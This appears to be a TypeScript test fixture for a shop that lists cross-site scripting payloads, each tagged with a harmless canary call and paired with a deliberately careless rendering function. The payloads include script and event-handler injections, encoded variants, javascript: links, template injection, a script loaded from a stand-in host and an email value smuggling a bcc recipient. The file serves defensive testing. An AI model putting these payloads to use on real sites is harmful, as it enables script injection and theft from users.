/** A text that a stranger may type anywhere, made to run as a program or to become an element. */
interface HostileText {
  text: string
  /** Writes it into a page with the mistake that it is made for. */
  careless(text: string): string
  /** Whether it runs there by itself; if not, the page has an element or address that should not be. */
  runs: boolean
}

/** The host that a text which got through asks. */
export const canaryHost = 'canary.example'

const asMarkup = (text: string) => `<p>${text}</p>`
const inAttribute = (text: string) => `<input value="${text}">`
const inSingleQuotes = (text: string) => `<input value='${text}'>`
const inTextarea = (text: string) => `<textarea>${text}</textarea>`
const inProgram = (text: string) => `<script>window.page = ${JSON.stringify({ text })}</script>`
const asAddress = (text: string) => `<a href="${text.replaceAll('"', '&quot;')}">Read</a>`
const asMarkdown = (text: string) => asMarkup(text.replace(/\[(.*?)\]\((.*?\))\)/, '<a href="$2">$1</a>'))
const asJsonText = (text: string) => asMarkup(String(JSON.parse(`"${text}"`)))
const asPlainLetters = (text: string) => asMarkup(text.normalize('NFKC'))
const decodedTwice = (text: string) => `
  <p id="shown">${text}</p>
  <script>document.body.insertAdjacentHTML('beforeend', document.getElementById('shown').textContent)</script>`
const asTemplate = (text: string) => `
  <script>${JSON.stringify(text)}.replace(/{{(.*?)}}/, (_all, code) => Function('return ' + code)())</script>`

const markup = (text: string): HostileText => ({ text, careless: asMarkup, runs: true })

/**
 * Each calls `canary` with its own number, and each element that it would make has an attribute of this name. None is
 * longer than 100 characters, the least that a field of the shop takes.
 */
export const hostileTexts: readonly HostileText[] = [
  markup('<script canary>canary(1)</script>'),
  { text: `<ScRiPt/canary/src=//${canaryHost}/2.js></sCrIpT>`, careless: asMarkup, runs: false },
  markup('<img canary src=x onerror=canary(3)>'),
  { text: '"><svg/canary/onload=canary(4)>', careless: inAttribute, runs: true },
  { text: "'><img canary src=x onerror=canary(5)>", careless: inSingleQuotes, runs: true },
  { text: '" autofocus onfocus=canary(6) canary="', careless: inAttribute, runs: true },
  { text: '</script><script canary>canary(7)</script>', careless: inProgram, runs: true },
  {
    text: '</title></textarea></style><img canary src=x onerror=canary(8)>',
    careless: inTextarea,
    runs: true,
  },
  markup('<svg canary><animate onbegin=canary(9) attributeName=x dur=1s></svg>'),
  markup('<math canary><style><img src=x onerror=canary(10)></style></math>'),
  { text: 'javascript:canary(11)', careless: asAddress, runs: false },
  { text: 'JaVa\tScript:canary(12)//https://', careless: asAddress, runs: false },
  { text: 'data:text/html,<script>canary(13)</script>', careless: asAddress, runs: false },
  markup('<iframe canary srcdoc="<script>canary(14)</script>"></iframe>'),
  { text: '<a canary href="&#106;avascript&colon;canary(15)">Read</a>', careless: asMarkup, runs: false },
  { text: '&lt;img canary src=x onerror=canary(16)&gt;', careless: decodedTwice, runs: true },
  { text: '＜img canary src=x onerror=canary(17)＞', careless: asPlainLetters, runs: true },
  { text: String.raw`\u003cimg canary src=x onerror=canary(18)\u003e`, careless: asJsonText, runs: true },
  {
    text: `=1+1[Read](javascript:canary(19)) <style canary>*{background:url(//${canaryHost}/19)}</style>`,
    careless: asMarkdown,
    runs: false,
  },
  { text: "{{constructor.constructor('canary(20)')()}}${canary(20)}", careless: asTemplate, runs: true },
]

/** All of them. */
export const allTexts = hostileTexts.map(({ text }) => text)

/** The shortest, for fields that take little. */
export const shortText = '"><svg/canary/onload=canary(4)>'

/** An address as orders, messages and accounts may have it; it also tries to add a receiver. */
export const hostileEmail = `${shortText}?bcc=more%40${canaryHost}&subject=canary@${canaryHost}`

/** Where pictures of other people are; it answers nothing. */
export const foreignPictures = 'https://pictures.example'

/** The address of a picture as a supplier may send it. */
export const hostilePicture = `${foreignPictures}/"><img/canary/src=x/onerror=canary(3)>'onload='canary(5).jpg`
